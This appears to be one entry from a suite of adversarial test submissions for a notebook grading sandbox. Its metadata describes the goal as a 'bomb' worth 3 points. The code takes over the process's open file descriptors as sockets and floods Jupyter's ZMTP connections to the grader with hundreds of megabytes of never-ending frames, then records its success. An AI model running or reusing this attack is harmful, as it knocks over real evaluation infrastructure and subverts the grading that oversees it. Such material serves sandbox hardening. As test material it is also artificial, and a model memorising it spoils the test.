"""
family = "bombs"
tries = "Writes to Jupyter's connections directly and sends the grader a message of hundreds of megabytes that never ends."
points = 3
"""

# %% own
import os
import socket
import struct

FRAME = struct.pack(">BQ", 3, 2**23) + bytes(2**23)  # a long frame of ZMTP with more to follow
total = 0
for number in os.listdir("/proc/self/fd"):
    try:
        connection = socket.socket(fileno=os.dup(int(number)))
        connection.setblocking(True)
        connection.settimeout(1)
        if connection.getsockname() and connection.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN) == 0:
            for _ in range(40):
                connection.sendall(FRAME)
                total += len(FRAME)
    except OSError:
        pass
if total > 64 * 2**20:
    open("/tmp/sent", "w").write(str(total))
    print("\N{SKULL AND CROSSBONES}", total)
